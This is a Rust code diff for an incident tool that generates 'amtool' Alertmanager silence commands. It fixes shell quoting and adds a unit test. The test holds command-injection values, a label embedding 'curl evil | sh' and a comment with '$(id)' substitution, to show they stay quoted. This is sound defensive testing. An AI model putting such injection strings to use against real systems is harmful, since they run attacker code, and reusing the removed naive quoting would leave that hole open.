@@ -10,7 +10,7 @@ use crate::{
         incident::{Alert, IncidentFacts, Matcher, SilenceState, all_match},
         release::duration_words,
         source::Tier,
-        text::Safe,
+        text::{Safe, shell_quoted, shell_word},
     },
     ops::{
         basis::{Basis, SilenceBasis, same_matchers},
@@ -143,15 +143,15 @@ fn silence(
         },
         sends: vec![sending("POST", requests::POST.to_owned(), body)],
         same_as: vec![format!(
-            "amtool silence add {} --duration={}m --comment={:?}",
+            "amtool silence add {} --duration={}m --comment={}",
             subject
                 .matchers
                 .iter()
-                .map(|matcher| format!("'{}'", matcher.words()))
+                .map(|matcher| shell_quoted(&matcher.words()))
                 .collect::<Vec<_>>()
                 .join(" "),
             subject.ends_at.duration_since(subject.starts_at).as_mins(),
-            subject.comment
+            shell_quoted(&subject.comment)
         )],
         way_back: "end the silence (m); it ends by itself as well".to_owned(),
         expect: "the silence is active and its alerts are silent".to_owned(),
@@ -204,7 +204,7 @@ fn expire(
             to: "told again".to_owned(),
         },
         sends: vec![sending("DELETE", path, serde_json::Value::Null)],
-        same_as: vec![format!("amtool silence expire {}", &*id.0)],
+        same_as: vec![format!("amtool silence expire {}", shell_word(&id.0))],
         way_back: "silence it again: an ended silence does not come back".to_owned(),
         expect: "the silence has ended".to_owned(),
         goal: Goal::SilenceEnded {
@@ -275,5 +275,51 @@ fn about(intent: &Intent, facts: &IncidentFacts, terms: &Terms) -> Plan {
         needs: Vec::new(),
         read_at: facts.read_at,
         serves_after: None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::ops::intent::Expects;
+
+    #[test]
+    fn a_label_or_a_comment_cannot_leave_its_word_of_the_command() {
+        let starts_at: Timestamp = "2026-11-20T22:00:00Z".parse().unwrap();
+        let subject = SilenceSubject {
+            environment: "prod".into(),
+            matchers: vec![Matcher::equal("service", "x'; curl evil | sh; '")],
+            starts_at,
+            ends_at: starts_at + jiff::SignedDuration::from_mins(60),
+            comment: "it's $(id) `id` \"".to_owned(),
+        };
+        let intent = Intent {
+            id: crate::model::id::IntentId::new("t-1"),
+            verb: Verb::Silence,
+            target: Subject::Silence(subject),
+            seen: None,
+            to_revision: None,
+            expects: Expects::default(),
+            reason: None,
+        };
+        let facts = IncidentFacts {
+            environment: "prod".into(),
+            read_at: starts_at,
+            alerts: Vec::new(),
+            silences: Vec::new(),
+            unread: Vec::new(),
+            warnings: Vec::new(),
+        };
+        let terms = Terms {
+            tier: Tier::Prod,
+            who: "ann".to_owned(),
+        };
+        let plan = plan(&intent, &facts, &terms).unwrap();
+        assert_eq!(
+            plan.same_as,
+            [
+                r#"amtool silence add 'service="x'\''; curl evil | sh; '\''"' --duration=60m --comment='it'\''s $(id) `id` "'"#
+            ]
+        );
     }
 }
